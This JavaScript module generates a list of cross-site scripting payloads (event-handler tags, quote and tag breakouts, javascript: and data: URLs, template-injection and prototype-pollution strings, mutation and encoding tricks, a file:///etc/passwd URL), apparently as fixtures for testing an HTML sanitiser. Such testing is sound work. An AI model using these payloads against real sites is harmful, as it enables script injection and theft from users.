// Texts that would run if a page inserted them as HTML: each calls `executed` or opens a dialog.
const RUN = 'globalThis.executed=1';

const TAGS = ['script', 'img src=x onerror', 'svg onload', 'body onload', 'iframe srcdoc', 'details open ontoggle', 'video src=x onerror', 'audio src=x onerror',
  'input autofocus onfocus', 'marquee onstart', 'object data', 'embed src', 'math href', 'form action', 'button autofocus onfocus formaction', 'select autofocus onfocus',
  'textarea autofocus onfocus', 'style onload', 'link rel=stylesheet onerror href=x', 'meta http-equiv=refresh content', 'svg/onload', 'img/src=x/onerror',
  'isindex onfocus', 'keygen autofocus onfocus', 'div onpointerenter', 'p onmouseover', 'animate onbegin', 'set onend'];
const ENDS = ['', '"><', "'><", '--><', '</title><', '</textarea><'];
const URLS = ['javascript:globalThis.executed=1', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>', 'vbscript:alert(1)', 'https://pictures.example.test/"onerror="alert(1)', "https://pictures.example.test/'onerror='alert(1)",
  'https://pictures.example.test/x.svg#<script>alert(1)</script>', 'http://[::1]:1/x', '//pictures.example.test/x', 'blob:null/x', 'file:///etc/passwd'];
const OTHERS = ['{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '`${alert(1)}`', '<%= alert(1) %>', '__proto__', 'constructor', 'toString',
  '{"constructor":{"prototype":{"executed":1}}}', '\u202e<script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>',
  '<a href="javascript:alert(1)">x</a>', '<svg><script href="data:,alert(1)"/>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ']]><script>alert(1)</script>', '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img src=x onerror=alert`1`>', '<base href=//pictures.example.test/>', '<x onclick=alert(1) tabindex=0 id=app>', '<template><script>alert(1)</script></template>'];

export function payloads() {
  const tags = TAGS.map((tag, index) => {
    const end = ENDS[index % ENDS.length];
    return tag === 'script' ? `<script>${RUN}</script>` : `${end}${end ? '' : '<'}${tag}="${RUN};alert(1)">`;
  });
  return [...tags, ...URLS, ...OTHERS];
}
